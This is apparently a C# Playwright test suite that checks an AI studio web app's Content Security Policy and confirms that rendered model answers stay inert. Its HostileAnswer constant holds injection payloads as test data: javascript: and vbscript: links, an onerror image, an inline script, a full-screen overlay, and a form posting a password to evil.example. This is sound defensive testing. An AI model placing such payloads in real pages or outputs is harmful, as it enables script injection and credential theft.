using System.Text.RegularExpressions;
using AiStudio.Tests.Browser;
using AiStudio.Tests.Support;
using Microsoft.Playwright;

namespace AiStudio.Tests.Security;

/// <summary>
/// A person walks every main page in Chromium under the app's real headers: not one CSP violation, console error,
/// uncaught exception or dialog. The model's answer carries markdown, a code block to highlight and attacks that the
/// renderer must leave inert.
/// </summary>
public sealed class ContentSecurityPolicyBrowserTests : IAsyncLifetime
{
    private const string Admin = "admin@security.test";

    public const string HostileAnswer = """
        ## Requirements

        Reminders go out **seven days** before the due date.

        ```csharp
        public sealed record Reminder(string InvoiceNumber, DateOnly Due);
        ```

        [Click for the invoice](javascript:alert('link'))
        [Also this](vbscript:msgbox(1))
        <img src=x onerror="alert('img')">
        <iframe src="javascript:alert('frame')"></iframe>
        <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">Overlay</div>
        <script>alert('script')</script>
        <form action="https://evil.example/steal"><input name="password"></form>
        <style>body { display: none }</style>

        Last line of the answer.
        """;

    private FakeOpenAiServer _model = null!;
    private AiStudioWebFactory _factory = null!;
    private BrowserSession _browser = null!;
    private SecurityWatch _watch = null!;

    public async Task InitializeAsync()
    {
        BrowserFlows.UseSessionTimeoutForAssertions();
        _model = await FakeOpenAiServer.StartAsync();
        _model.ResponseText = HostileAnswer;
        _factory = new AiStudioWebFactory(new Dictionary<string, string?>
        {
            ["Models:Default:Provider"] = "OpenAI",
            ["Models:Default:Model"] = "fake-model",
            ["Models:Default:BaseUrl"] = _model.BaseUrl,
            ["Models:Default:ApiKey"] = "sk-csp-test",
            ["Admin:Emails:0"] = Admin,
        });
        _browser = await BrowserSession.StartAsync(_factory.StartAndGetAddress());
        _watch = await SecurityWatch.AttachAsync(_browser);
    }

    public async Task DisposeAsync()
    {
        await _browser.DisposeAsync();
        await _factory.DisposeAsync();
        await _model.DisposeAsync();
    }

    [Fact]
    public Task MainPages_UnderTheContentSecurityPolicy_NoViolationNoConsoleErrorAndModelOutputInert() =>
        _browser.RunAsync(nameof(MainPages_UnderTheContentSecurityPolicy_NoViolationNoConsoleErrorAndModelOutputInert), async page =>
    {
        // Home, sign up, the board, the new build dialog and the build page with the model's answer.
        await BrowserFlows.SignUpAsync(_browser, Admin);
        await BrowserFlows.StartBuildAsync(_browser, "Invoice reminders");
        await Expect(page.GetByText("Last line of the answer.")).ToBeVisibleAsync();
        await Expect(page.Locator(".run-output .markdown-body pre code.hljs").First).ToBeVisibleAsync();
        await Expect(page.Locator(".run-output .markdown-body strong", new() { HasText = "seven days" })).ToBeVisibleAsync();
        await AssertOutputInertAsync(page);

        // The pipeline page draws its diagram with mermaid.
        await OpenAsync("pipeline", "How the pipeline works");
        await Expect(page.Locator(".pipeline-diagram svg")).ToBeVisibleAsync();
        await Expect(page.GetByText("The diagram could not be drawn")).ToHaveCountAsync(0);

        await OpenAsync("projects", "Projects");
        await OpenAsync("account/api-tokens", "API tokens");
        await page.GetByLabel("Token name").FillAsync("csp check");
        await page.GetByRole(AriaRole.Button, new() { Name = "Create token" }).ClickAsync();
        await Expect(page.GetByLabel(new Regex("^Your new token"))).ToHaveValueAsync(new Regex("^ast_"));

        await OpenAsync("admin/audit", "Audit trail");
        await OpenAsync("admin/users", "Users");
        await OpenAsync("admin/prompts", "Role prompts");
        await OpenAsync("pricing", "Pricing");
        await OpenAsync("billing", "Billing");

        // Log out and in again: the log-in page once started passkey autofill, which fails on an address like 127.0.0.1.
        await BrowserFlows.LogOutAsync(_browser);
        await BrowserFlows.LogInAsync(_browser, Admin);
        await OpenAsync("builds", "Pipeline board");

        Assert.True(_watch.Problems.Count == 0, "The pages produced:\n" + string.Join("\n", _watch.Problems));
    });

    [Fact]
    public Task InjectedInlineScript_BlockedByThePolicy_ReportedAsAViolation() =>
        _browser.RunAsync(nameof(InjectedInlineScript_BlockedByThePolicy_ReportedAsAViolation), async page =>
    {
        await page.GotoAsync("");
        await _browser.WaitForCircuitAsync();

        // What a successful injection would do: add an inline script. The policy refuses it, and the watch sees that.
        await page.EvaluateAsync("""
            () => { const s = document.createElement('script'); s.textContent = 'window.injected = true;'; document.body.appendChild(s); }
            """);
        await Eventually.Until(() => Task.FromResult(_watch.CspViolations.Count > 0), TimeSpan.FromSeconds(10), "the browser to report the blocked inline script");

        Assert.Null(await page.EvaluateAsync<bool?>("() => window.injected"));
        Assert.Contains("script-src", _watch.CspViolations[0]);
    });

    private async Task OpenAsync(string path, string heading)
    {
        await _browser.Page.GotoAsync(path);
        await Expect(_browser.Page.GetByRole(AriaRole.Heading, new() { Name = heading }).First).ToBeVisibleAsync();
        await _browser.WaitForCircuitAsync();
    }

    private static async Task AssertOutputInertAsync(IPage page)
    {
        var output = page.Locator(".run-output .markdown-body").First;
        foreach (var selector in new[] { "iframe", "object", "embed", "form", "script", "style", "[style]", "[onerror]", "a[href^='javascript']", "a[href^='vbscript']", "img[src='x']" })
        {
            Assert.True(await output.Locator(selector).CountAsync() == 0, $"The rendered output contains {selector}.");
        }

        // The links stay as text the reader can see, just without a target that runs script.
        await Expect(output.GetByText("Click for the invoice")).ToBeVisibleAsync();
        var positions = await page.EvaluateAsync<string[]>(
            "() => [...document.querySelectorAll('.run-output .markdown-body *')].map(e => getComputedStyle(e).position).filter(p => p === 'fixed' || p === 'absolute')");
        Assert.Empty(positions);
    }

    private static ILocatorAssertions Expect(ILocator locator) => Assertions.Expect(locator);
}
